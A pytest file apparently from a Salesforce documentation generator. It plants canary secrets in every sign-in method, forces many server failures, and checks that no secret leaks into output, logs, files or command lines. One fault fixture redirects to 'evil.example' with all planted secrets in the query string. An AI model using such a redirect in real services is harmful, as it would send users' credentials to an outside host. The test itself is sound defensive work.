"""Secrets that are planted in every way of signing in are found in nothing that is written.

RELIABILITY.md 4 "Secrets" and 6, row 19: each path fails on its own, with --debug, all loggers at
DEBUG and http.client's own switch on, while the server repeats in its refusals what it was sent.
"""

from __future__ import annotations

import base64
import html
import http.client
import json
import logging
import os
import random
import socket
import threading
import traceback
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, quote_plus, urlsplit

import keyring
import pytest
from keyring.backends import fail

from generator import cli
from generator.crm.sample_org import Response, SampleServer
from generator.crm.signin import ways
from tests.crm_orgs import serving
from tests.signing_in import (
    DISPLAY,
    KEY,
    PASSWORD,
    PRIVATE_KEY,
    SECRET,
    SECURITY_TOKEN,
    SHOW,
    MemoryKeyring,
    RecordedCli,
    app,
    client_credentials,
    direct,
    display,
    failure,
    get,
    jwt_bearer,
    small_org,
    soap,
    success,
)

CANARIES = (
    "password",
    "security token",
    "access token",
    "refresh token",
    "consumer secret",
    "private key",
    "authorization code",
    "code verifier",
)
VERIFIER = "canaryVerifier" + "v" * 50
AT_ONCE = "[network]\npause = 0.01\n"  # a call is made again without waiting
Answer = Callable[["Scene"], Response]


@dataclass
class Scene:
    """One path: where it runs, what the server does from some moment on, which secrets are out."""

    folder: Path
    ring: MemoryKeyring
    recorded: RecordedCli
    port: int
    patch: pytest.MonkeyPatch
    fault: Callable[[str], Response | None] | None = None
    secrets: dict[str, str] = field(default_factory=dict)
    server: SampleServer | None = None
    threads: list[threading.Thread] = field(default_factory=list)

    def intercept(self, _method: str, path: str) -> Response | None:
        return self.fault(path) if self.fault else None

    @property
    def up(self) -> SampleServer:
        assert self.server is not None
        return self.server

    def echo(self) -> str:
        self.note_keyring()
        return " ".join(self.secrets.values())

    def note_keyring(self) -> None:
        for held in self.ring.held.values():
            self.secrets["refresh token"] = json.loads(held)["refresh_token"]

    def browse(self, address: str) -> bool:
        """A browser that keeps in mind the code it carried."""

        def go() -> None:
            try:
                location = get(address)[1].get("Location", "")
                self.secrets["authorization code"] = parse_qs(urlsplit(location).query)["code"][0]
                get(location)
            except (OSError, KeyError):
                return  # nobody there, or no code: that is the path being tried

        self.threads.append(threading.Thread(target=go))
        self.threads[-1].start()
        return True

    def use(self, env: dict[str, str]) -> None:
        for name, value in env.items():
            self.patch.setenv(name, value)


# --- The ways: what each is prepared with, and the command that fails ----------------------------


def by_variables(names: Callable[[SampleServer, Path], dict[str, str]]) -> Callable[[Scene], None]:
    return lambda scene: scene.use(names(scene.up, scene.folder / "keys"))


def by_cli(scene: Scene) -> None:
    shown = success(accessToken=scene.up.token)
    scene.recorded.answers({DISPLAY: display(scene.up.url), SHOW: shown})


def settle(scene: Scene) -> None:
    rows = f'consumer_key = "{KEY}"\nlogin_url = "{scene.up.url}"\nport = {scene.port}\n'
    Path("accountdocs.toml").write_text(f"{AT_ONCE}[logins.work]\n{rows}", encoding="utf-8")


def by_login(scene: Scene) -> None:
    settle(scene)
    assert cli.run(["login", "work", "--timeout", "20"]) == 0
    scene.note_keyring()


ENV = ("--org", "env")
WAYS: dict[str, tuple[Callable[[Scene], None], tuple[str, ...]]] = {
    "direct": (by_variables(direct), ("accounts", *ENV)),
    "client credentials": (by_variables(client_credentials), ("accounts", *ENV)),
    "jwt bearer": (by_variables(jwt_bearer), ("accounts", *ENV)),
    "soap": (by_variables(soap), ("accounts", *ENV)),
    "salesforce cli": (by_cli, ("accounts", "--org", "sf:prod")),
    "refresh token": (by_login, ("accounts", "--org", "login:work")),
    "browser": (settle, ("login", "work", "--timeout", "1")),
    "logout": (by_login, ("logout", "work")),
}
ASKING = ("client credentials", "jwt bearer", "soap", "refresh token", "browser")
READING = ("direct", "client credentials", "jwt bearer", "soap", "salesforce cli", "refresh token")


# --- The faults ----------------------------------------------------------------------------------


def signing_in(answer: Answer) -> Callable[[Scene], None]:
    """The sign-in gives ``answer`` from now on."""

    def start(scene: Scene) -> None:
        paths = ("/services/oauth2/token", "/services/oauth2/revoke", "/services/Soap/")
        scene.fault = lambda path: answer(scene) if path.startswith(paths) else None

    return start


def reading(answer: Answer) -> Callable[[Scene], None]:
    def start(scene: Scene) -> None:
        scene.fault = lambda path: answer(scene) if path.startswith("/services/data/") else None

    return start


def page(status: int) -> Answer:
    return lambda scene: Response(status, f"<html>{scene.echo()}</html>".encode())


def refusal(scene: Scene) -> Response:
    error = {"error": "invalid_grant", "error_description": scene.echo()}
    return Response(400, {**error, "message": scene.echo(), "errorCode": "CANARY"})


def odd_code(scene: Scene) -> Response:
    return Response(400, {"error": scene.echo(), "error_description": scene.echo()})


def soap_fault(scene: Scene) -> Response:
    said = html.escape(scene.echo())
    body = (
        '<e:Envelope xmlns:e="x" xmlns:sf="y"><e:Body><e:Fault><sf:exceptionCode>INVALID_LOGIN'
        f"</sf:exceptionCode><sf:exceptionMessage>{said}</sf:exceptionMessage></e:Fault></e:Body>"
        "</e:Envelope>"
    )
    return Response(500, body.encode())


def elsewhere(scene: Scene) -> Response:
    return Response(302, b"", {"Location": f"https://evil.example/?{quote_plus(scene.echo())}"})


def cut_short(scene: Scene) -> Response:
    return Response(200, f'{{"access_token": "{scene.up.token}'.encode())


def of_no_org(scene: Scene) -> Response:
    body = {"access_token": scene.up.token, "instance_url": f"http://{SECRET}.example"}
    return Response(200, body)


def unsendable(scene: Scene) -> Response:
    body = {"access_token": f"{scene.up.token}\n{scene.echo()}", "instance_url": scene.up.url}
    return Response(200, {**body, "refresh_token": "canary-refresh"})


def gone(scene: Scene) -> None:
    scene.up.close()


def no_longer(scene: Scene) -> None:
    """The session has ended, and signing in again is refused."""

    was_read: list[str] = []

    def fault(path: str) -> Response | None:
        if path.startswith("/services/data/"):
            was_read.append(path)
            return Response(401, [{"errorCode": "INVALID_SESSION_ID", "message": scene.echo()}])
        is_sign_in = path.startswith(("/services/oauth2/token", "/services/Soap/"))
        return refusal(scene) if is_sign_in and was_read else None

    scene.fault = fault


AT_SIGN_IN = {
    "401 page": signing_in(page(401)),
    "403 page": signing_in(page(403)),
    "500 page": signing_in(page(500)),
    "429 page": signing_in(page(429)),
    "200 page": signing_in(page(200)),
    "refusal": signing_in(refusal),
    "odd code": signing_in(odd_code),
    "soap fault": signing_in(soap_fault),
    "redirect": signing_in(elsewhere),
    "cut short": signing_in(cut_short),
    "no org": signing_in(of_no_org),
    "unsendable": signing_in(unsendable),
    "gone": gone,
}
AT_READING = {
    "session ended": reading(
        lambda s: Response(401, [{"errorCode": "INVALID_SESSION_ID", "message": s.echo()}])
    ),
    "no longer": no_longer,
    "401 page": reading(page(401)),
    "403 page": reading(page(403)),
    "refusal": reading(refusal),
    "200 page": reading(page(200)),
    "gone": gone,
}


def cli_that(answer: Callable[[Scene], dict[str, Any]]) -> Callable[[Scene], None]:
    return lambda scene: scene.recorded.answers({DISPLAY: answer(scene)})


AT_CLI = {
    "cli refuses": cli_that(lambda s: failure("Canary", s.echo())),
    "cli unknown": cli_that(lambda s: failure("NamedOrgNotFoundError", s.echo())),
    "cli garbage": cli_that(lambda s: {"text": f"oops {s.echo()}", "code": 1}),
    "cli token alone": cli_that(lambda s: success(accessToken=s.up.token)),
}
FAULTS = {**AT_SIGN_IN, **{f"reading {k}": v for k, v in AT_READING.items()}, **AT_CLI}
TAKEN_FOR_DONE = ("200 page", "cut short", "no org", "unsendable")  # to revoke, 200 says all
PATHS = [
    *((way, fault) for way in ASKING for fault in AT_SIGN_IN),
    *(("logout", fault) for fault in AT_SIGN_IN if fault not in TAKEN_FOR_DONE),
    *((way, f"reading {fault}") for way in READING for fault in AT_READING),
    *(("salesforce cli", fault) for fault in AT_CLI),
]


# --- The search ----------------------------------------------------------------------------------


def spellings(secret: str) -> set[bytes]:
    """A secret as it may stand in a file: plain, in an address, in XML or JSON, in base64."""
    texts = {
        secret,
        quote(secret, safe=""),
        quote_plus(secret),
        html.escape(secret),
        html.escape(secret, quote=False),
        json.dumps(secret)[1:-1],
        repr(secret)[1:-1],
        base64.b64encode(secret.encode()).decode(),
    }
    return {text.encode(encoding) for text in texts for encoding in ("utf-8", "utf-16-le")}


def leaked(secrets: dict[str, str], written: bytes) -> list[str]:
    return [
        name
        for name, secret in secrets.items()
        if any(form in written for form in spellings(secret))
    ]


def written_below(*folders: Path) -> Iterator[tuple[str, bytes]]:
    """Every file, and what lies packed in it."""
    for path in sorted(p for folder in folders for p in folder.rglob("*") if p.is_file()):
        yield str(path), path.read_bytes()
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as archive:
                yield from ((f"{path}!{name}", archive.read(name)) for name in archive.namelist())


def key_lines() -> str:
    """One line from the middle of the private key: enough to know it by."""
    return PRIVATE_KEY.splitlines()[5]


@pytest.fixture
def scenes(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Callable[[], Scene]]:
    """Makes the place for one path after the other, each with a home of its own."""
    path_before = os.environ["PATH"]
    monkeypatch.setattr(ways, "PATIENCE", replace(ways.PATIENCE, sleep=lambda seconds: None))
    monkeypatch.setattr(http.client.HTTPConnection, "debuglevel", 1)
    monkeypatch.setattr(
        "oauthlib.oauth2.WebApplicationClient.create_code_verifier", lambda self, length: VERIFIER
    )

    def make() -> Scene:
        folder = tmp_path_factory.mktemp("scene")
        for name in ("work", "home", "keys"):
            (folder / name).mkdir()
        recorded = RecordedCli(folder / "bin")
        for name in [name for name in os.environ if name.startswith("SF_")]:
            monkeypatch.delenv(name)
        for name in ("HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "LOCALAPPDATA"):
            monkeypatch.setenv(name, str(folder / "home"))
        monkeypatch.setenv("PATH", f"{recorded.folder}{os.pathsep}{path_before}")
        monkeypatch.chdir(folder / "work")
        Path("accountdocs.toml").write_text(AT_ONCE, encoding="utf-8")
        ring = MemoryKeyring()
        keyring.set_keyring(ring)
        scene = Scene(folder, ring, recorded, _free_port(), monkeypatch)
        monkeypatch.setattr("webbrowser.open", scene.browse)
        return scene

    yield make
    keyring.set_keyring(fail.Keyring())


def _free_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return int(free.getsockname()[1])


def play(scene: Scene, way: str, fault: str) -> int:
    """Prepares the way, lets the fault begin and runs the command, as a user would with --debug."""
    prepare, command = WAYS[way]
    with serving(small_org(), app(scene.port, intercept=scene.intercept)) as server:
        scene.server = server
        scene.secrets |= {
            "password": PASSWORD,
            "security token": SECURITY_TOKEN,
            "access token": server.token,
            "consumer secret": SECRET,
            "private key": key_lines(),
            "code verifier": VERIFIER,
        }
        prepare(scene)
        FAULTS[fault](scene)
        try:
            code = cli.run([*command, "--debug"])
        except Exception:  # noqa: BLE001 - whatever it is, Python would print it
            traceback.print_exc()
            code = 1
        for thread in scene.threads:
            thread.join(20)
        scene.note_keyring()
    return code


@pytest.mark.proof("planted secrets, failing sign-ins", slice=40, full=200)
def test_no_failing_path_writes_a_secret(
    scenes: Callable[[], Scene],
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    record_property: Callable[[str, object], None],
    cases: int,
    seed: int,
) -> None:
    tried = random.Random(seed).sample(PATHS, min(cases, len(PATHS)))
    found: list[str] = []
    for way, fault in tried:
        scene = scenes()
        caplog.clear()
        with caplog.at_level(logging.DEBUG):
            code = play(scene, way, fault)
        out, err = capfd.readouterr()
        assert code != 0, f"{way}, {fault} did not fail: it proves nothing"
        assert "Error" in err or "Traceback" in err or "accountdocs:" in err
        places = {"stdout": out, "stderr": err, "the log": caplog.text}
        written = [(name, text.encode("utf-8", "replace")) for name, text in places.items()]
        written += written_below(scene.folder / "work", scene.folder / "home")
        calls = scene.recorded.folder / "calls.txt"  # what stood in the list of processes
        written += [("the CLI's command line", calls.read_bytes())] if calls.exists() else []
        found += [
            f"{way}, {fault}: {name} in {place}"
            for place, content in written
            for name in leaked(scene.secrets, content)
        ]
    record_property("cases", len(tried) * len(CANARIES))
    assert found == []


def test_there_are_sixty_paths_and_more() -> None:
    assert len(PATHS) >= 60
    assert len(set(PATHS)) == len(PATHS)


@pytest.mark.parametrize("way", READING)
def test_what_succeeds_writes_no_secret_either(
    scenes: Callable[[], Scene],
    way: str,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Documents, run reports, manifests and caches of a run whose session ended on the way."""
    scene = scenes()
    ended: list[str] = []

    def once(path: str) -> Response | None:
        if path.startswith("/services/data/") and not ended and way != "direct":
            ended.append(path)
            scene.secrets["old access token"] = scene.up.token
            scene.up.expire()
            scene.secrets["access token"] = scene.up.token
            by_cli(scene)
        return None

    prepare, command = WAYS[way]
    generating = (prepare, ("generate", "Acme", "--only", "plan", *command[1:]))
    monkeypatch.setitem(WAYS, way, generating)
    monkeypatch.setitem(FAULTS, "none", lambda scene: setattr(scene, "fault", once))
    with caplog.at_level(logging.DEBUG):
        assert play(scene, way, "none") == 0
    out, err = capfd.readouterr()
    reports = list((scene.folder / "work/outputs/.accountdocs/runs").glob("*.json"))
    assert len(reports) == 1
    written = [("stdout", out.encode()), ("stderr", err.encode()), ("log", caplog.text.encode())]
    written += written_below(scene.folder / "work", scene.folder / "home")
    assert [(n, place) for place, content in written for n in leaked(scene.secrets, content)] == []


@pytest.mark.parametrize("name", CANARIES)
def test_a_leak_would_be_found(name: str) -> None:
    secret = {"password": PASSWORD, "private key": key_lines()}.get(name, f"canary-{name}/+&<é")
    for form in spellings(secret):
        assert leaked({name: secret}, b"before " + form + b" after") == [name]
    assert leaked({name: secret}, b"nothing of the kind") == []


def test_http_client_s_own_switch_shows_nothing(
    scenes: Callable[[], Scene], capfd: pytest.CaptureFixture[str]
) -> None:
    scene = scenes()
    play(scene, "client credentials", "reading refusal")
    assert "send: b'" not in capfd.readouterr().out


def test_a_browser_that_is_followed_signs_in(scenes: Callable[[], Scene]) -> None:
    """The paths above fail for their faults, not for the test's own browser."""
    scene = scenes()
    with serving(small_org(), app(scene.port)) as server:
        scene.server = server
        by_login(scene)
        assert set(scene.secrets) == {"authorization code", "refresh token"}
